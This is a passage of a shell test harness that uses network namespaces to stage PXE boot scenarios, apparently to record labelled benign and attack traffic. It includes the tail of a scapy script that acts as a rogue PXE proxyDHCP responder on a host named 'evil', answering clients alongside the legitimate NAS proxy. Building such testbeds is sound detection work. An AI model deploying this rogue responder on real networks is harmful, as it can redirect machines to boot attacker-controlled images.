          DHCP(options=[("message-type", "offer"), ("server_id", me), ("vendor_class_id", b"PXEClient"), ("vendor_specific", sub), "end"]), iface="eth0")
sniff(iface="eth0", filter="udp dst port 67", prn=hit, timeout=float(sys.argv[1]))
EOF
pxe_proxy_up() { # the NAS's dnsmasq as the LAN's PXE proxyDHCP (no DNS, no addresses)
	spawn nas dnsmasq -k --port=0 --interface=eth0 --bind-interfaces --dhcp-range=$NET.0,proxy \
		--pxe-service=x86PC,"Network boot",pxelinux --dhcp-leasefile="$tmp/nas.leases"
	sleep 1
}
# The gateway's dnsmasq hands out addresses, the NAS's is the PXE proxy; a
# PXE client (pc2) boots; then evil's rogue proxy starts and a second
# client (pc) boots, answered by both proxies with different boot services.
scn_pxe_rogue_proxydhcp_scapy() {
	pxe_proxy_up
	inns pc2 "$py" "$tmp/pxeclient.py"
	spawn evil "$py" "$tmp/pxerogue.py" 12
	sleep 2
	inns pc "$py" "$tmp/pxeclient.py"
	killns evil pxerogue.py
	killns nas dnsmasq
}
# The same LAN without the rogue: two PXE clients boot through the NAS's proxy.
scn_benign_pxe_proxydhcp_two_clients() {
	pxe_proxy_up
	inns pc2 "$py" "$tmp/pxeclient.py"
	inns pc "$py" "$tmp/pxeclient.py"
	killns nas dnsmasq
}
all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
for s in ${@:-$all}; do
	record "$s" "scn_$s"
done
